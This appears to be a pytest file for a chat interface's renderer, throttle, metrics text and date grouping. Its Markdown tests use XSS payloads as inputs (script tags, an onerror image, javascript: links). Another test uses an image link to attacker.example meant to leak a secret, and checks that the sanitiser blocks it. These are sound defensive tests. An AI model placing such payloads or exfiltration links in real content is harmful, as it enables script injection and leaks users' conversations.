"""The chat widgets' logic: safe Markdown, the render throttle, metrics text and date groups."""

from __future__ import annotations

import asyncio
import itertools
from datetime import UTC, datetime, timedelta

from ui.chat import Throttle, group_by_date, metrics_text, render_markdown


def test_markdown_escapes_raw_html_and_keeps_formatting() -> None:
    html = render_markdown('**bold** <img src=x onerror="alert(1)"> <script>alert(2)</script> '
                           '<a href="javascript:alert(3)">x</a> <div class="fixed inset-0">cover</div>')
    assert "<strong>bold</strong>" in html
    for dangerous in ("<img", "<script", "<a href=\"javascript", "<div class=\"fixed"):
        assert dangerous not in html
    assert "&lt;script&gt;" in html  # shown as the model wrote it


def test_markdown_links_and_code() -> None:
    html = render_markdown("[docs](https://example.com) [bad](javascript:alert(1))\n\n```python\nx = 1 < 2\n```")
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html
    assert "javascript" not in html
    assert '<div class="codehilite">' in html and "&lt;" in html


def test_a_code_block_still_streaming_renders_as_code() -> None:
    assert "<pre>" in render_markdown("Look:\n\n```python\ndef f():\n    return 1")


def test_images_are_not_rendered() -> None:
    # A model's output must not make the browser fetch a URL of its choosing (and leak the conversation).
    assert "<img" not in render_markdown("![x](https://attacker.example/leak?q=secret)")


async def test_the_throttle_flushes_at_most_once_per_interval_and_never_drops_the_last_poke() -> None:
    flushes: list[float] = []
    loop = asyncio.get_running_loop()
    throttle = Throttle(lambda: flushes.append(loop.time()), interval=0.05)
    started = loop.time()
    while loop.time() - started < 0.5:  # poked ~1000 times a second for half a second
        throttle.poke()
        await asyncio.sleep(0.001)
    last_poke = loop.time()
    await asyncio.sleep(0.1)
    assert 2 <= len(flushes) <= (last_poke - started) / 0.05 + 2
    assert all(b - a >= 0.049 for a, b in itertools.pairwise(flushes))
    assert flushes[-1] >= last_poke - 0.01  # the trailing poke was shown


def test_metrics_text() -> None:
    assert metrics_text(model="acme/m", output_tokens=100, ttft_ms=200, total_ms=2200) == (
        "acme/m · 100 tokens · first token 200 ms · 50.0 tokens/s")
    assert metrics_text(model=None, output_tokens=None, ttft_ms=None, total_ms=1500) == "1.5 s in all"


def test_conversations_are_grouped_by_age() -> None:
    now = datetime(2026, 11, 30, 12, tzinfo=UTC)
    items = [(now - timedelta(days=days), days) for days in (0, 0, 1, 3, 12, 45, 80)]
    assert group_by_date(items, now=now) == [
        ("Today", [0, 0]), ("Yesterday", [1]), ("Previous 7 days", [3]), ("Previous 30 days", [12]),
        ("2026-10", [45]), ("2026-09", [80])]
